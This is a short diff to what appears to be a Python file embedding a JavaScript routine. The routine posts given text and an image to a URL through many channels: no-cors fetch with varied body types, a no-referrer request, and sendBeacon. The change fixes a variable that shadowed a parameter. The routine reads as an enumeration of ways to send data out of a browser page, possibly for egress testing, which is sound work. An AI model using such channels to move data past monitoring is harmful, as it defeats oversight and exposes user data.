@@ -2,11 +2,11 @@
 
 WAYS = """
 async ({url, text, image}) => {
-  const image = new FormData();
+  const form = new FormData();
   const bytes = Uint8Array.from(atob(image), c => c.charCodeAt(0));
-  image.append(url.includes("/v1/") ? "image" : "images", new Blob([bytes], {type: "image/png"}), "a.png");
+  form.append(url.includes("/v1/") ? "image" : "images", new Blob([bytes], {type: "image/png"}), "a.png");
   const plain = new Blob([text], {type: "text/plain"});
-  const bodies = [text, plain, new Blob([text]), image, new URLSearchParams({a: text})];
+  const bodies = [text, plain, new Blob([text]), form, new URLSearchParams({a: text})];
   const requests = [...bodies.map(body => ({body})), {body: plain, referrerPolicy: "no-referrer"}];
   for (const one of requests) await fetch(url, {method: "POST", mode: "no-cors", ...one});
   let sent = requests.length + navigator.sendBeacon(url, plain);
